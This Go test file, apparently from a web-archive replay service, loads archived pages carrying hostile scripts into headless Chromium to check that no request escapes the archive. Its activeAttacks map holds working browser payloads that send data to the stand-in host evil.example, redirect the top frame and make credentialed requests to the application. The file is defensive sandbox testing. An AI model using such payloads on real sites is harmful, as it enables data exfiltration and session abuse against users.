package replay_test

import (
	"context"
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ibid-archive/ibid/archive/cdx"
	"github.com/ibid-archive/ibid/internal/replay"
)

// browserVariable names a Chromium for the tests that need a browser.
const browserVariable = "IBID_TEST_CHROMIUM"

// activeAttacks are those that need the scripts of the page.
var activeAttacks = map[string]string{
	"requests":         `<script>fetch("http://evil.example/a",{mode:"no-cors"});var x=new XMLHttpRequest();x.open("GET","http://evil.example/b");x.send();navigator.sendBeacon("http://evil.example/c");new Image().src="http://evil.example/d";new EventSource("http://evil.example/e");new WebSocket("ws://evil.example/f")</script>`,
	"the application":  `<script>fetch("APP/api/v1/a",{mode:"no-cors",credentials:"include"});new Image().src="APP/web/b";document.cookie="a=b"</script><img src="APP/c"><form action="APP/save" method=post id=f></form><script>f.submit()</script>`,
	"leaving":          `<script>location="http://evil.example/a"</script>`,
	"leaving upwards":  `<script>try{top.location="http://evil.example/a"}catch(e){};try{parent.location="http://evil.example/b"}catch(e){}</script>`,
	"windows":          `<script>window.open("http://evil.example/a");window.open("APP/b")</script>`,
	"workers":          `<script>try{navigator.serviceWorker.register("sw.js")}catch(e){};try{new Worker("data:text/javascript,fetch('http://evil.example/a')")}catch(e){};try{new Worker(URL.createObjectURL(new Blob(["fetch('http://evil.example/b')"])))}catch(e){}</script>`,
	"frames":           `<script>var f=document.createElement("iframe");f.src="http://evil.example/a";document.documentElement.append(f);var g=document.createElement("iframe");g.srcdoc="<img src=http://evil.example/b>";document.documentElement.append(g);var h=document.createElement("iframe");h.src="APP/";document.documentElement.append(h)</script>`,
	"what is added":    `<body><script>document.body.innerHTML='<link rel=stylesheet href=http://evil.example/a><link rel=prefetch href=http://evil.example/b><video src=http://evil.example/c></video><embed src=http://evil.example/d><object data=http://evil.example/e></object><form action=http://evil.example/f><button>';document.forms[0].submit();import("http://evil.example/g")</script>`,
	"the frame around": `<script>try{parent.document.body.innerHTML="taken"}catch(e){};parent.postMessage("x","*")</script>`,
	"refreshing":       `<script>var m=document.createElement("meta");m.httpEquiv="refresh";m.content="0;url=http://evil.example/a";document.head.append(m)</script>`,
}

// canary counts whoever comes.
type canary struct {
	mu   sync.Mutex
	came []string
}

func (c *canary) saw(what string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.came = append(c.came, what)
}

// taken is who came since.
func (c *canary) taken() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	came := c.came
	c.came = nil
	return came
}

// Attack pages are opened in a browser, in the frame of the application: no request leaves for anywhere but the archive.
func TestAttacksInABrowser(t *testing.T) {
	browser := os.Getenv(browserVariable)
	if browser == "" {
		t.Skip(browserVariable + " names no Chromium")
	}
	birds := &canary{}
	evilAt := listenFor(t, birds)
	h := &held{}
	var s *replay.Service
	app := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !strings.HasPrefix(r.URL.Path, "/web/20090604120000") && r.URL.Path != "/favicon.ico" {
			birds.saw(r.Method + " " + r.URL.Path + " of the application")
		}
		s.Protocols(http.NotFoundHandler()).ServeHTTP(w, r)
	}))
	defer app.Close()
	shown := 0
	archive := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		shown++
		s.Replay().ServeHTTP(w, r)
	}))
	defer archive.Close()
	var err error
	if s, err = replay.New(replay.Options{
		Index: h, Records: h, Access: func(*http.Request, *cdx.Entry) replay.Decision { return replay.Open },
		Application: replay.Origin{URL: app.URL}, Replay: replay.Origin{URL: archive.URL},
	}); err != nil {
		t.Fatal(err)
	}
	open := func(name, modifier, page string) {
		t.Run(name, func(t *testing.T) {
			uri := fmt.Sprintf("http://a.example/%d", len(h.entries))
			h.add(t, uri, "20090604120000", "text/html; charset=utf-8", strings.ReplaceAll(page, "APP", app.URL))
			before := shown
			dom := browse(t, browser, evilAt, app.URL+"/web/20090604120000"+modifier+"/"+uri)
			if came := birds.taken(); len(came) > 0 {
				t.Errorf("it asked for %q", came)
			}
			if shown == before || !strings.Contains(dom, "The archived page") || strings.Contains(dom, "taken<") {
				t.Errorf("it was not shown: %s", dom)
			}
		})
	}
	for _, name := range slices.Sorted(maps.Keys(attacks)) {
		open(name, "", attacks[name])
	}
	for _, name := range slices.Sorted(maps.Keys(activeAttacks)) {
		open("with scripts: "+name, "on_", activeAttacks[name])
	}
}

// browse opens a page and gives what became of its document.
func browse(t *testing.T, browser, evilAt, address string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background-networking", "--disable-component-update", //nolint:gosec // the browser of whoever runs this
		"--user-data-dir="+t.TempDir(), "--host-resolver-rules=MAP evil.example "+evilAt, "--virtual-time-budget=2000", "--dump-dom", address)
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("the browser: %v", err)
	}
	return string(out)
}

// listenFor lets nobody in, and says who came.
func listenFor(t *testing.T, c *canary) string {
	t.Helper()
	l, err := new(net.ListenConfig).Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			b := make([]byte, 200)
			// A browser connects ahead to where a script wants to go, and then is not let: it says nothing.
			if n, _ := conn.Read(b); n > 0 {
				c.saw(string(b[:n]))
			}
			_ = conn.Close()
		}
	}()
	t.Cleanup(func() {
		_ = l.Close()
		<-done
	})
	return l.Addr().String()
}
